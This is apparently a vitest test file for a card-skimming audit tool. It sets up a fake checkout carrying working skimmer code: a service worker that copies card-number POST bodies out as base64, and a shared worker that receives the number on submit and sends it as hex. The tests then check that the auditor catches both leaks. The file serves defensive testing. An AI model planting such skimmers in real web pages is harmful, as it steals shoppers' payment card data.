import { describe, expect, it } from 'vitest';
import { freshCanaryCard } from '../../src/audit/canary/card.js';
import { TOKENIZER } from './shop.js';
import { received, shopAsShopper } from './shopper.js';
import type { AuditRun } from '../../src/audit/audit.js';
import { audit, browser, leaks, site, skimmedShop, useSkimmedShop } from './skimmed-shop.js';

useSkimmedShop();

const SERVICE_WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.method !== 'POST') return;
  event.respondWith(event.request.clone().text().then((body) => {
    if (body.includes('cardNumber=')) fetch('/sw-sync', { method: 'POST', body: btoa(body) }).catch(() => {});
    return fetch(event.request);
  }));
});`;

/** The shop's Trusted Types policy for worker URLs, made by whichever script runs first (each in a block: two scripts share the page's globals). */
const POLICY = `const policy = (self.offlinePolicy ??= trustedTypes.createPolicy('offline', { createScriptURL: (url) => url }));`;

/** Registers the service worker, which reads the element's own post. */
const REGISTER = `{ ${POLICY}
navigator.serviceWorker.register(policy.createScriptURL('/sw.js')); }`;

/** Starts a shared and a dedicated worker, and hands the shared one the number on submit. */
const START = `{ ${POLICY}
const shared = new SharedWorker(policy.createScriptURL('/shared.js'));
new Worker(policy.createScriptURL('/dedicated.js'));
document.addEventListener('submit', () => {
  const number = document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');
  shared.port.postMessage(btoa(number));
}, { capture: true, once: true }); }`;

/** One checkout with both scripts, each starting its own workers. */
function workersShop(): void {
  skimmedShop([
    { path: '/offline.js', body: REGISTER },
    { path: '/sync.js', body: START },
  ]);
  site.files.set('/sw.js', SERVICE_WORKER);
  // The worker decodes what the page hands it, and sends the digits as a number of its own.
  site.files.set(
    '/shared.js',
    `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('/shared-sync?v=' + BigInt(atob(data)).toString(16)); };`,
  );
  site.files.set('/dedicated.js', `postMessage('ready');`);
}

/** One canary audit of the checkout with every worker, shared by the tests below. */
let run: Promise<AuditRun> | undefined;
const audited = () =>
  (run ??= (() => {
    workersShop();
    return audit();
  })());

describe('card-tokenizer-audit --canary, a service worker of an approved script', () => {
  it('records the worker, and catches it reading the element’s own post', async () => {
    workersShop();
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card, {
      ready: (page) => page.waitForFunction(() => navigator.serviceWorker.controller),
    });
    expect(received(site, card)).toContain('/sw-sync: base64 of card number, plain');

    const run = await audited();
    expect(run.evidence.workers).toContainEqual(
      expect.objectContaining({
        type: 'service',
        url: '/sw.js',
        scope: '/',
        registeredBy: '/offline.js',
      }),
    );
    expect(leaks(run)).toContainEqual(
      expect.stringMatching(
        /^request POST .*\/sw-sync from a service worker: base64 of card number, plain$/,
      ),
    );
    expect(run.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
  });
});

describe('card-tokenizer-audit --canary, shared and dedicated workers', () => {
  it('records them with the script that started them, and watches a shared worker’s requests', async () => {
    workersShop();
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card);
    expect(received(site, card)).toContain('/shared-sync: card number, hex');

    const run = await audited();
    expect(run.evidence.workers).toEqual([
      expect.objectContaining({
        type: 'dedicated',
        url: '/dedicated.js',
        registeredBy: '/sync.js',
      }),
      expect.objectContaining({ type: 'service', url: '/sw.js', registeredBy: '/offline.js' }),
      expect.objectContaining({ type: 'shared', url: '/shared.js', registeredBy: '/sync.js' }),
    ]);
    expect(leaks(run)).toContainEqual(
      expect.stringMatching(
        /^request GET .*\/shared-sync\?v=[0-9a-f]+ from the shared worker .*\/shared\.js: card number, hex$/,
      ),
    );
  });
});
